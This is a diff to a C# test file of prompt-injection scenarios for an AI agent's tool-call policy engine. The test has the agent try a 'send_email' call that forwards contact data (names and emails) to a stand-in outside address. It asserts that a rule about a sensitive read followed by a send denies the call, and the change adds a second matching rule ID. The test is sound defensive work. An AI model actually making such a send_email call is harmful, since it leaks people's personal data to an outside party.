@@ -39,7 +39,7 @@ public sealed class InjectionScenarioTests
         var forward = await session.CallAsync("send_email", """{ "to": "archive@mail-sync.example.net", "subject": "contacts", "body": "name,email\nJane,jane@customer.example" }""");
 
         forward.Effect.Should().Be(DecisionEffect.Deny);
-        forward.RuleIds.Should().Equal("pack-sensitive-read-then-send");
+        forward.RuleIds.Should().BeEquivalentTo(["pack-sensitive-read-then-send", "pack-sensitive-read-then-send-later"]);
         session.Executed.Should().NotContain("send_email");
     }
 
